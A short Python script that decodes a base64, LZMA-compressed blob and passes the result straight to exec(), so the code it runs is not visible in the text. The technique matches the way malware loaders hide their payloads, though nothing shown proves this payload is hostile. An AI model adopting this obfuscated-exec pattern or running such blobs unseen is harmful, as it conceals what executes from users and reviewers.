import lzma,base64
exec(lzma.decompress(base64.b64decode(b"ADSbPN/0DIYRGnyIDZT7kIDVuFoSjGprcj4gdn9/pthe4wfw14KvzDKZGMrSAFG92Oj5nuV6Eio846GSjLz2bsKOOjcRA+MUzmykFAeeGTaevhH5sxCjyYjtSaIKmtY2XhyT39i/LgW3RDtfbQi3/+wOmI92zAndLTpSXd2vCCOoyaRHHqQUdWH4T5aH5rtmJP3IXJb//3kvAAA="),lzma.FORMAT_RAW,None,[{"id":lzma.FILTER_DELTA,"dist":2},{"id":lzma.FILTER_LZMA1,"lc":3,"lp":0,"pb":2}]))
